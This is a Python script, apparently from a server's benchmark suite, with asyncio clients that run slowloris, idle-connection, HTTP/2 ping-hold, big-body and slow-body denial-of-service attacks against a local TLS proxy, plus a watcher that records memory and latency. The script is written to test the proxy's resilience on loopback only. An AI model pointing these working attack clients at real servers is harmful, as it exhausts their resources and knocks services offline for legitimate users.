#!/usr/bin/env python3
"""Attack clients and the watcher for bench/shim/attacks.sh (asyncio + ssl; `h2` from pip for the
HTTP/2 attack). Everything goes to 127.0.0.0/8 only, every loop is bounded in time.

  attacks.py watch --port P --cacert C --path PATH --jwt J --pid PID --out FILE
        until SIGTERM: the shim's VmRSS every 200 ms, and a normal client from 127.0.0.2 every
        second (a fresh TLS connection, GET /health, then the authenticated read on the same
        connection). SIGUSR1 marks the attack's start, SIGUSR2 its end. On SIGTERM writes a summary
        (key value lines) to FILE and the samples to FILE.samples.
  attacks.py idle      --port P --n N --secs S         N TCP connections that never send a byte
  attacks.py slowloris --port P --cacert C --n N --secs S   TLS, then a request head 1 byte a second
  attacks.py h2ping    --port P --cacert C --n N --secs S   HTTP/2: preface and SETTINGS, half of
        them one GET /health; then only answer the server's PINGs (and PING it every 5 s)
  attacks.py bigbody   --port P --cacert C --n N --secs S --bytes B   N loops of POSTs with a B-byte
        body (half Content-Length, half chunked), sent as fast as the shim reads
  attacks.py slowbody  --port P --cacert C --n N --secs S   POST with Content-Length 60000, the
        body 1 byte a second
Attack connections come from 127.0.<base>.x, --per-ip (default 200) per address, so the shim's
per-address limit (256) does not refuse them; a connection the shim closes is opened again after
1 s. Each attack prints what it did (key value lines).
"""
import asyncio
import os
import random
import resource
import signal
import ssl
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from tools import HOST, ctx, parse, pct, read_response, request_bytes, rss_kb  # noqa: E402

PUBLIC_SEND = "/api/v1/public/agents/bench-attack/messages"


def raise_nofile():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


class Src:
    """Source addresses 127.0.<base>.1.., per_ip connections each."""

    def __init__(self, a, base):
        self.base = int(a.get("base", base))
        self.per_ip = int(a.get("per-ip", "200"))

    def __call__(self, i):
        k = i // self.per_ip
        return (f"127.0.{self.base + k // 250}.{1 + k % 250}", 0)


class Stats(dict):
    def inc(self, k, n=1):
        self[k] = self.get(k, 0) + n

    def show(self):
        for k in sorted(self):
            print(f"{k} {self[k]}")


def tls_ctx(cacert, alpn):
    c = ssl.create_default_context(cafile=cacert)
    c.set_alpn_protocols([alpn])
    return c


async def run_slots(a, base, one):
    """Runs `one(i, deadline, st)` for i < n, each again 1 s after it ends, until --secs pass."""
    raise_nofile()
    n, secs = int(a["n"]), float(a["secs"])
    src = Src(a, base)
    st = Stats()
    end = time.monotonic() + secs

    async def slot(i):
        # spread the first connections over the first second
        await asyncio.sleep(random.random())
        while time.monotonic() < end:
            try:
                await one(i, src(i), end, st)
            except (ConnectionError, OSError, ssl.SSLError, asyncio.IncompleteReadError) as e:
                st.inc("error_" + type(e).__name__)
            except asyncio.TimeoutError:
                st.inc("error_timeout")
            if time.monotonic() < end:
                await asyncio.sleep(1.0)

    t0 = time.monotonic()
    await asyncio.gather(*(slot(i) for i in range(n)))
    st["seconds"] = round(time.monotonic() - t0, 1)
    st.show()


async def until_closed(r, end):
    """Reads (discarding) until the peer closes or `end`; True when the peer closed."""
    while True:
        left = end - time.monotonic()
        if left <= 0:
            return False
        try:
            data = await asyncio.wait_for(r.read(4096), left)
        except asyncio.TimeoutError:
            return False
        if not data:
            return True


def close(w):
    try:
        w.transport.abort()
    except Exception:  # noqa: BLE001
        pass


# --- the attacks -----------------------------------------------------------------------------------

async def idle(a):
    port = int(a["port"])

    async def one(i, src, end, st):
        r, w = await asyncio.open_connection(HOST, port, local_addr=src)
        st.inc("opened")
        try:
            if await until_closed(r, end):
                st.inc("closed_by_shim")
        finally:
            close(w)

    await run_slots(a, 1, one)


async def slowloris(a):
    port, sslc = int(a["port"]), tls_ctx(a["cacert"], "http/1.1")
    head = (b"GET /api/v1/chat/threads HTTP/1.1\r\nHost: localhost\r\n"
            + b"".join(b"X-Pad-%d: %s\r\n" % (k, b"a" * 40) for k in range(200)))

    async def one(i, src, end, st):
        r, w = await asyncio.wait_for(asyncio.open_connection(
            HOST, port, ssl=sslc, server_hostname="localhost", local_addr=src), 30)
        st.inc("opened")
        sent = 0
        try:
            reader = asyncio.ensure_future(r.read(4096))
            while time.monotonic() < end:
                w.write(head[sent % len(head):sent % len(head) + 1])
                sent += 1
                done, _ = await asyncio.wait({reader}, timeout=1.0)
                if done:
                    data = reader.result()
                    st.inc("answered" if data else "closed_by_shim")
                    if data.startswith(b"HTTP/1.1 "):
                        st.inc("status_" + data[9:12].decode())
                    break
            else:
                reader.cancel()
            st.inc("bytes_sent", sent)
        finally:
            close(w)

    await run_slots(a, 2, one)


async def h2ping(a):
    import h2.config
    import h2.connection
    import h2.events

    port, sslc = int(a["port"]), tls_ctx(a["cacert"], "h2")

    async def one(i, src, end, st):
        r, w = await asyncio.wait_for(asyncio.open_connection(
            HOST, port, ssl=sslc, server_hostname="localhost", local_addr=src), 30)
        if w.get_extra_info("ssl_object").selected_alpn_protocol() != "h2":
            st.inc("not_h2")
            close(w)
            return
        st.inc("opened")
        c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        c.initiate_connection()
        if i % 2 == 0:
            c.send_headers(1, [(":method", "GET"), (":path", "/health"), (":scheme", "https"),
                               (":authority", "localhost")], end_stream=True)
            st.inc("with_one_request")
        w.write(c.data_to_send())
        next_ping = time.monotonic() + 5
        try:
            while time.monotonic() < end:
                try:
                    data = await asyncio.wait_for(r.read(65535), max(0.01, min(end, next_ping) - time.monotonic()))
                except asyncio.TimeoutError:
                    data = None
                if data == b"":
                    st.inc("closed_by_shim")
                    return
                if data:
                    for ev in c.receive_data(data):
                        if isinstance(ev, h2.events.PingReceived):
                            st.inc("pings_answered")
                        elif isinstance(ev, h2.events.ResponseReceived):
                            st.inc("responses")
                        elif isinstance(ev, h2.events.ConnectionTerminated):
                            st.inc("goaway")
                if time.monotonic() >= next_ping:
                    c.ping(os.urandom(8))
                    st.inc("pings_sent")
                    next_ping += 5
                out = c.data_to_send()
                if out:
                    w.write(out)
        finally:
            close(w)

    await run_slots(a, 3, one)


async def bigbody(a):
    port, sslc = int(a["port"]), tls_ctx(a["cacert"], "http/1.1")
    size = int(a.get("bytes", str(1 << 20)))
    chunk = b"x" * 65536

    async def one(i, src, end, st):
        r, w = await asyncio.wait_for(asyncio.open_connection(
            HOST, port, ssl=sslc, server_hostname="localhost", local_addr=src), 30)
        try:
            while time.monotonic() < end:
                chunked = (i + st.get("requests", 0)) % 2 == 1
                h = [f"POST {PUBLIC_SEND} HTTP/1.1", "Host: localhost", "Content-Type: application/json"]
                h.append("Transfer-Encoding: chunked" if chunked else f"Content-Length: {size}")
                w.write(("\r\n".join(h) + "\r\n\r\n").encode())
                st.inc("requests")
                resp = asyncio.ensure_future(read_response(r))
                sent = 0
                while sent < size and not resp.done():
                    part = chunk[:min(len(chunk), size - sent)]
                    w.write(b"%x\r\n%s\r\n" % (len(part), part) if chunked else part)
                    sent += len(part)
                    try:
                        await asyncio.wait_for(w.drain(), 30)
                    except (ConnectionError, OSError):
                        break
                if chunked and sent >= size and not resp.done():
                    w.write(b"0\r\n\r\n")
                st.inc("bytes_sent", sent)
                try:
                    status, hdrs, _ = await asyncio.wait_for(resp, 30)
                except (asyncio.IncompleteReadError, ConnectionError, OSError):
                    st.inc("closed_without_answer")
                    return
                st.inc(f"status_{status}")
                if hdrs.get("connection", "").lower() == "close" or sent < size:
                    st.inc("closed_after_answer")
                    return
        finally:
            close(w)

    await run_slots(a, 4, one)


async def slowbody(a):
    port, sslc = int(a["port"]), tls_ctx(a["cacert"], "http/1.1")

    async def one(i, src, end, st):
        r, w = await asyncio.wait_for(asyncio.open_connection(
            HOST, port, ssl=sslc, server_hostname="localhost", local_addr=src), 30)
        st.inc("opened")
        w.write((f"POST {PUBLIC_SEND} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                 "Content-Length: 60000\r\n\r\n").encode())
        sent = 0
        try:
            reader = asyncio.ensure_future(r.read(4096))
            while time.monotonic() < end:
                w.write(b" ")
                sent += 1
                done, _ = await asyncio.wait({reader}, timeout=1.0)
                if done:
                    data = reader.result()
                    st.inc("answered" if data else "closed_by_shim")
                    if data.startswith(b"HTTP/1.1 "):
                        st.inc("status_" + data[9:12].decode())
                    break
            else:
                reader.cancel()
            st.inc("bytes_sent", sent)
        finally:
            close(w)

    await run_slots(a, 5, one)


# --- the watcher -----------------------------------------------------------------------------------

async def watch(a):
    port, pid, out = int(a["port"]), int(a["pid"]), a["out"]
    sslc = tls_ctx(a["cacert"], "http/1.1")
    marks = {}
    samples = []      # (t, rss_kb)
    probes = []       # (t, connect_ms, health_ms, read_ms, health_status, read_status)
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGUSR1, lambda: marks.setdefault("start", time.monotonic()))
    loop.add_signal_handler(signal.SIGUSR2, lambda: marks.setdefault("end", time.monotonic()))
    loop.add_signal_handler(signal.SIGTERM, stop.set)
    t_begin = time.monotonic()

    async def sampler():
        while not stop.is_set():
            try:
                samples.append((time.monotonic(), rss_kb(pid)))
            except OSError:
                pass
            await asyncio.sleep(0.2)

    async def normal():
        health = request_bytes("GET", "/health", "x").replace(b"Authorization: Bearer x\r\n", b"")
        read = request_bytes("GET", a["path"], a["jwt"])
        while not stop.is_set():
            t0 = time.monotonic()
            row = [t0, None, None, None, "-", "-"]
            w = None
            try:
                r, w = await asyncio.wait_for(asyncio.open_connection(
                    HOST, port, ssl=sslc, server_hostname="localhost", local_addr=("127.0.0.2", 0)), 30)
                t1 = time.monotonic()
                row[1] = (t1 - t0) * 1000
                w.write(health)
                s, _, _ = await asyncio.wait_for(read_response(r), 30)
                t2 = time.monotonic()
                row[2], row[4] = (t2 - t1) * 1000, str(s)
                w.write(read)
                s, _, _ = await asyncio.wait_for(read_response(r), 30)
                row[3], row[5] = (time.monotonic() - t2) * 1000, str(s)
            except asyncio.TimeoutError:
                row[4 if row[2] is None else 5] = "timeout"
            except Exception as e:  # noqa: BLE001
                row[4 if row[2] is None else 5] = "err:" + type(e).__name__
            finally:
                if w is not None:
                    close(w)
            probes.append(tuple(row))
            await asyncio.sleep(max(0.0, 1.0 - (time.monotonic() - t0)))

    tasks = [asyncio.create_task(sampler()), asyncio.create_task(normal())]
    await stop.wait()
    await asyncio.wait(tasks, timeout=35)
    start, end = marks.get("start", t_begin), marks.get("end", time.monotonic())

    def rss(lo, hi):
        return [k for t, k in samples if lo <= t < hi]

    base = rss(t_begin, start)
    during = rss(start, end + 0.5)
    after = rss(end + 0.5, float("inf"))
    dur = end - start
    first_third = rss(start, start + dur / 3)
    last_third = rss(end - dur / 3, end + 0.5)
    probes_during = [p for p in probes if start <= p[0] < end]

    def worst(i, rows):
        xs = [p[i] for p in rows if p[i] is not None]
        return f"{max(xs):.0f}" if xs else "n/a"

    def med(xs):
        return f"{pct(xs, 50):.0f}" if xs else "n/a"

    ok = [p for p in probes_during if p[4] == "200" and p[5] == "200"]
    with open(out, "w") as f:
        f.write(f"attack_seconds {dur:.1f}\n")
        f.write(f"rss_baseline_kb {med(base)}\n")
        f.write(f"rss_peak_kb {max(during) if during else 'n/a'}\n")
        f.write(f"rss_peak_first_third_kb {max(first_third) if first_third else 'n/a'}\n")
        f.write(f"rss_peak_last_third_kb {max(last_third) if last_third else 'n/a'}\n")
        f.write(f"rss_after_kb {after[-1] if after else 'n/a'}\n")
        f.write(f"normal_probes {len(probes_during)} all_200 {len(ok)}\n")
        f.write("normal_statuses " + " ".join(sorted({f'{p[4]}/{p[5]}' for p in probes_during})) + "\n")
        f.write(f"normal_worst_ms connect {worst(1, probes_during)} health {worst(2, probes_during)} "
                f"read {worst(3, probes_during)}\n")
        tot = [sum(x for x in p[1:4] if x is not None) for p in probes_during]
        f.write(f"normal_total_ms p50 {med(tot)} max {max(tot) if tot else float('nan'):.0f}\n")
        bp = [p for p in probes if p[0] < start]
        btot = [sum(x for x in p[1:4] if x is not None) for p in bp]
        f.write(f"normal_before_total_ms p50 {med(btot)} max {max(btot) if btot else float('nan'):.0f}\n")
    with open(out + ".samples", "w") as f:
        f.write(f"# t_s rss_kb (attack from {start - t_begin:.1f} to {end - t_begin:.1f})\n")
        for t, k in samples:
            f.write(f"{t - t_begin:.1f} {k}\n")
        f.write("# probes: t_s connect_ms health_ms read_ms health_status read_status\n")
        for p in probes:
            f.write(f"# {p[0] - t_begin:.1f} " + " ".join("-" if x is None else (f"{x:.1f}" if isinstance(x, float) else x)
                                                          for x in p[1:]) + "\n")


def main():
    cmd, a = sys.argv[1], parse(sys.argv[2:])
    fn = {"watch": watch, "idle": idle, "slowloris": slowloris, "h2ping": h2ping,
          "bigbody": bigbody, "slowbody": slowbody}.get(cmd)
    if fn is None:
        print(__doc__, file=sys.stderr)
        sys.exit(2)
    asyncio.run(fn(a))


if __name__ == "__main__":
    main()
